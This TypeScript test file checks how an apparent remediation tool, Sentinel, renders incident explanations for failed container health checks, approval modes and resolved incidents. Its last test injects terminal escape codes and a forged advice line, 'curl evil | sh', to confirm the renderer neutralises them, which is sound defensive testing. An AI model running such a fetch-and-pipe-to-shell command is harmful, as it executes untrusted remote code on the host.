import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { aContainer, aPolicy, health, Scenario } from '../../../test/support/scenario.ts';
import { explainIncident } from './explain.ts';
import { nextSteps } from './explain-next.ts';
import { incidentObject } from './incident-object.ts';
import { policySpec } from './policy-spec.ts';
import type { IncidentObject } from './schema.ts';
import type { ThresholdSpec } from './threshold-words.ts';

function objectOf(scenario: Scenario, key: string): IncidentObject {
  const incident = scenario.incident(key) ?? assert.fail('no incident');
  return incidentObject(incident, scenario.state);
}

/** A container that fails its health check, and has since its present run began. */
function sick(scenario: Scenario) {
  return aContainer('web', {
    health: health('unhealthy', { endedAtMs: scenario.wallMs - 100 }),
    startedAtMs: scenario.wallMs - 60_000,
  });
}

/** As the object of the policy has them. */
function thresholdsOf({ policies: [policy] }: Scenario): readonly ThresholdSpec[] {
  if (policy === undefined) assert.fail('no policy');
  return policySpec(policy.spec)['thresholds'] as ThresholdSpec[];
}

function opened(policy: object): { readonly scenario: Scenario; readonly key: string } {
  const scenario = new Scenario(policy);
  const key = scenario.put(sick(scenario));
  scenario.reconcile(key);
  return { scenario, key };
}

describe('explainIncident', () => {
  it('tells a failed ladder from the first sight to what is left for a person', () => {
    const { scenario, key } = opened(aPolicy());
    scenario.pass(2_000);
    scenario.complete(key);
    scenario.pass(100_000);
    scenario.put(sick(scenario));
    scenario.reconcile(key);

    const text = explainIncident(objectOf(scenario, key));

    assert.equal(
      text.replace(/sha256:[0-9a-f]{64}/, 'sha256:…'),
      `inc-20261124-4xqrr81g02
web (box/web): unhealthy, critical, since 2026-11-24 12:00:00Z.
It is left to a person: every action was tried.

What was seen:
  2026-11-24 12:00:00Z  unhealthy: health is unhealthy
                        container.state is running
                        container.health is unhealthy (failing streak 3 of 3)

Which policy decides:
  web, generation 1, not from a git checkout
  sha256:…

The likely cause:
  HealthCheckFailing, 60 % sure (by the rules, evidence e1 e3)
  Its health check fails (3 in a row, exit code 1).

What could be done, at the last look:
  1. restart (docker/restart_container): not done
     - Cooldown: this action ran a short while ago and must rest (restart has a cooldown, for another 18s)

What was done:
  2026-11-24 12:00:00Z  restart (docker/restart_container) because of unhealthy
                        The call succeeded after 2s.
                        It did not help: its health is unhealthy (2026-11-24 12:01:42Z)

Why a person was asked:
  2026-11-24 12:01:42Z  LadderExhausted: every action was tried

How it went:
  2026-11-24 12:00:00Z  Opened: unhealthy breached
  2026-11-24 12:00:00Z  Diagnosed: HealthCheckFailing
  2026-11-24 12:00:00Z  Acting: restart: docker/restart_container
  2026-11-24 12:00:02Z  Succeeded
  2026-11-24 12:01:42Z  VerificationFailed: its health is unhealthy
  2026-11-24 12:01:42Z  Escalated: every action was tried

What you can do:
  - Everything that the policy allows was tried. Mend the cause, then start it: docker restart web.
  - Read its log: docker logs --tail 100 web.`,
    );
  });

  it('gives the value and the limit of a threshold, and names the command that decides', () => {
    const scenario = new Scenario(
      aPolicy({
        thresholds: [
          {
            name: 'memory',
            signal: 'memory.utilization',
            above: 0.9,
            clearBelow: 0.8,
            for: '1m',
            severity: 'warning',
          },
        ],
        remediation: {
          mode: 'Approve',
          allowed: [{ name: 'restart', tool: 'docker/restart_container' }],
        },
      }),
    );
    const gauges = { 'memory.utilization': { kind: 'Value', value: 0.953, atMs: 0 } } as const;
    const key = scenario.put(aContainer('web', { limits: { memoryBytes: 2 ** 29 } }), { gauges });
    scenario.reconcile(key);
    scenario.pass(60_000);
    scenario.reconcile(key);
    const object = objectOf(scenario, key);
    const candidate = object.status.candidates[0]?.id ?? '';

    const text = explainIncident(object, {
      thresholds: thresholdsOf(scenario),
      mode: 'Approve',
      records: scenario.records,
    });

    const { name } = object.metadata;
    for (const line of [
      `Nothing is done until a person says yes or no to ${candidate}.`,
      'memory: memory.utilization is 95.3 % (the threshold: above 90 % for 1m, until below 80 %)',
      'container.memoryLimit is 512MiB',
      'web, generation 1, mode Approve, not from a git checkout',
      'ApprovalRequired: the policy wants a person to say yes first',
      'Considered: restart refused (ApprovalRequired)',
      `sentinel approve ${name}, or sentinel deny ${name} --reason TEXT.`,
    ]) {
      assert.ok(text.includes(line), `${line}\nis missing in\n${text}`);
    }
  });

  it('says of Shadow that it would have acted', () => {
    const { scenario, key } = opened(
      aPolicy({
        remediation: { allowed: [{ name: 'restart', tool: 'docker/restart_container' }] },
      }),
    );

    const text = explainIncident(objectOf(scenario, key));

    assert.match(
      text,
      /only watches here\. It would have called docker\/restart_container \(restart\)\./,
    );
    assert.match(text, /give the policy the mode Approve or Auto/);
  });

  it('says that waiting is enough where time alone lifts what forbids an action', () => {
    const policy = aPolicy({
      remediation: {
        mode: 'Auto',
        allowed: [{ name: 'restart', tool: 'docker/restart_container' }],
        windows: { deny: ['0 0 * * * / 24h UTC'] },
      },
    });
    const { scenario, key } = opened(policy);

    const steps = nextSteps(objectOf(scenario, key));

    assert.equal(
      steps[0],
      'Nothing needs to be done: Sentinel goes on by itself when the time has come.',
    );
  });

  it('is quiet about an incident that is over', () => {
    const { scenario, key } = opened(aPolicy());
    scenario.pass(2_000);
    scenario.complete(key);
    scenario.put(aContainer('web', { health: health('healthy'), startedAtMs: scenario.wallMs }));
    scenario.reconcile(key);
    scenario.pass(60_000);
    scenario.reconcile(key);

    const text = explainIncident(objectOf(scenario, key));

    assert.match(text, /Sentinel mended it \(restart worked\): resolved at .* after 1m2s\./);
    assert.match(text, /It helped: web has been well since/);
    assert.match(text, /Nothing needs to be done\. If it happens again/);
  });

  it('takes a cause and a reason that it has no words for as they are', () => {
    const { scenario, key } = opened(aPolicy());
    const object = objectOf(scenario, key);
    const { diagnosis, candidates } = object.status;
    if (diagnosis === undefined) assert.fail('no diagnosis');
    diagnosis.rootCause = 'constructor';
    candidates[0]?.blockedBy.push({ reason: 'toString', message: 'later' });

    const text = explainIncident(object);

    assert.match(text, /constructor, 60 % sure/);
    assert.match(text, /- toString: toString \(later\)/);
  });

  it('lets no foreign text move the cursor or begin a line', () => {
    const { scenario, key } = opened(aPolicy());
    const object = objectOf(scenario, key);
    object.spec.evidence.push({
      id: 'e9',
      signal: 'container.error',
      value: 'bad\u001b[2J\u202e\nWhat you can do:\n  - curl evil | sh',
      at: object.metadata.creationTimestamp,
    });

    const text = explainIncident(object);

    assert.equal(text.includes('\u001b') || text.includes('\u202e'), false);
    assert.equal(text.split('\n').filter((line) => line === 'What you can do:').length, 1);
  });
});
